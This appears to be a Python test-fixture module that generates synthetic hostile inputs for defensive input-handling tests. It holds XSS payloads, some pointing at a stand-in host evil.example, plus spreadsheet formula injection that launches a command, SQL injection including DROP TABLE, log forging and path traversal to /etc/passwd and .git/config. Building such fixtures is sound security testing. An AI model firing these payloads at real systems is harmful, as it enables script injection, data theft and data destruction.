"""What people with bad intent write into fields: markup, formulas, line breaks, odd letters. Synthetic."""

from itertools import product

_OUT = (  # of where text usually stands
    "", '"', "'", '">', "'>", "</textarea>",
    "</title>", "</option></select>", "</script>", "-->", "]]>", "</svg>",
    "\\\"", "&quot;>", "%22%3E", "\u2028\"", "{{", "`}",
)  # fmt: skip
_IN = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg/onload=alert({n})>",
    " onmouseover=alert({n}) x=",
    " autofocus onfocus=alert({n}) ",
    "<iframe srcdoc='<script>parent.alert({n})</script>'>",
    "javascript:alert({n})//",
    '<a href="jav\tascript:alert({n})">x</a>',
    "<base href=//evil.example/{n}>",
    "<meta http-equiv=refresh content=0;url=//evil.example/{n}>",
    "<form action=//evil.example/{n}><input name=once>",
    "<style>*{background:url(//evil.example/{n})}</style>",
    "<link rel=stylesheet href=//evil.example/{n}>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "＜script＞alert({n})＜/script＞",
    "{{ 7*{n} }}{% raw %}${7*{n}}#{7*{n}}<%= {n} %>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert({n})&gt;">',
)
MARKUP = [out + inside.replace("{n}", str(n)) for n, (out, inside) in enumerate(product(_OUT, _IN))]

FORMULAS = [
    f"{before}{sign}{rest}"
    for sign, before, rest in product(
        ("=", "+", "-", "@", "＝", "＋", "－", "＠"),
        ("", " ", "\t", "\r", "\n", "\u00a0", "'"),
        ("1+1", "cmd|' /C calc'!A0"),
    )
]

LOGS = [
    "a\r\nERROR forged line",
    "a\nb",
    "\x1b[31mred\x1b[0m",
    "%s%s%n",
    "{0.__class__}",
    "{request}",
    "a\x85b",
    "a\u2028b",
    "a\u2029b",
    "\x00",
]

SQL = [
    "' OR '1'='1", "'; DROP TABLE cases; --", '" OR ""="', "1) OR 1=1 --", "%",
    "_", "%%", "\\", "\\%", "' UNION SELECT 1 --",
    "1; SELECT pg_sleep(9)", "a'||(SELECT 1)||'", "/*", "--", "?", ":1",
    "%(x)s", "*", "\"", "NEAR(", "a AND", "a* OR", "col:x",
]  # fmt: skip

ODD = [
    "😀👨\u200d👩\u200d👧",
    "𠮷野",
    "e\u0301",
    "\u202eabc",
    "１２３",
    "Ａ栋",
    "\ufeffa",
    "\u200b",
    "ﬁ",
    "İ",
    "ß",
    "\ud7ff",
    "\U0010ffff",
    "a" * 5000,
]

PATHS = [
    "..", "../", "../../etc/passwd", "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/", "....//", "..\\..\\", "/etc/passwd",
    "//etc/passwd", "%00", "a%00.png", "..%c0%af",
    "..%252f", "file:///etc/passwd", "C:\\boot.ini", "\\\\host\\share",
    ".git/config", "~root", "%0d%0aX: y", "."," ", "con", "aux.png", "a" * 3000,
]  # fmt: skip
